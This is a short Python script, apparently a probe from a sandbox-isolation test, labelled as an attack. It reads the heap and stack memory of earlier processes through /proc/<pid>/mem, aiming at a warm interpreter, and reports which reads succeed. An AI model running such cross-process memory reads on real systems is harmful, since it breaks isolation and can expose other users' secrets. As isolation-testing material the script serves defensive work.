# attack: reads the memory of every process that it can see, the warm interpreter's first of all
import glob
import os

for path in glob.glob("/proc/[0-9]*/mem"):
    pid = path.split("/")[2]
    if int(pid) >= os.getpid():  # of this run
        continue
    try:
        with open(path, "rb") as memory, open("/proc/%s/maps" % pid) as maps:
            for line in maps:
                if "[heap]" in line or "[stack]" in line:
                    begin, _, _ = line.partition("-")
                    memory.seek(int(begin, 16))
                    print("REACHED", pid, len(memory.read(4096)))
    except (OSError, ValueError):
        pass
